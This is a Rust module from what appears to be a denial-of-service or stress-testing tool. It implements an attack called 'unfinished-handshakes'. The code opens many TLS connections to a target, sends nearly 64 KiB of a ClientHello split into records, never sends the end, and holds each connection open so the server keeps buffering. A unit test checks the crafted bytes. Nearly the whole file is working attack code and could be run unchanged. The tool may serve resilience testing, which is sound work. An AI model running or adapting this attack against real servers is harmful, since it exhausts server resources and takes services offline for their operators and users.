//! Sends nearly all of the longest first message of a TLS handshake, and never its end.

use super::{Attack, MANY, WITH_TLS};
use crate::aim::Aim;
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "unfinished-handshakes",
    about: "Holds connections whose first message of TLS has 64 KiB and never ends",
    targets: WITH_TLS,
    attackers: MANY,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

/// Bytes of the message. A server keeps the parts of a message until it has the whole, of up to 64 KiB.
const MESSAGE: usize = 65_520;
/// Bytes of a record: at most 16 KiB.
const RECORD: usize = 16_384;

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.bare().await?;
    stream.write_all(&unfinished()).await?;
    aim.hold(stream).await;
    Ok(())
}

/// A `ClientHello` without its last bytes, in records.
fn unfinished() -> Vec<u8> {
    let length = u32::try_from(MESSAGE).unwrap_or_default().to_be_bytes();
    let mut message = vec![1, length[1], length[2], length[3]];
    message.resize(MESSAGE - 500, 0);
    let record = |part: &[u8]| {
        let length = u16::try_from(part.len()).unwrap_or_default().to_be_bytes();
        [&[22, 3, 1, length[0], length[1]], part].concat()
    };
    message.chunks(RECORD).flat_map(record).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_message_is_shorter_than_it_says() {
        let bytes = unfinished();
        assert_eq!(bytes[..9], [22, 3, 1, 0x40, 0, 1, 0, 0xff, 0xf0]);
        assert_eq!(bytes.len(), MESSAGE - 500 + 4 * 5, "four records");
    }
}
